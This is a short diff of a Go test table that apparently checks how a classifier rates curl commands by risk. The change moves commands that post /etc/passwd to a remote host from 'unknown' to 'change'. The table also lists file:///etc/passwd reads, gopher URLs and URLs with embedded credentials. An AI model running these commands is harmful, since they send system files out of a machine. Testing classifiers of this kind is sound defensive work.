@@ -32,8 +32,8 @@ func TestCurl(t *testing.T) {
 		read+r    | curl -u a:b http://x/
 		unknown+r | curl -K file
 		change+r  | curl -T file http://x/
-		unknown+r | curl -d @/etc/passwd http://x/
-		unknown+r | curl --data-urlencode a@/etc/passwd http://x/
+		change+r  | curl -d @/etc/passwd http://x/
+		change+r  | curl --data-urlencode a@/etc/passwd http://x/
 		unknown+r | curl file:///etc/passwd
 		unknown+r | curl gopher://x/
 		unknown+r | curl http://user:pw@x/
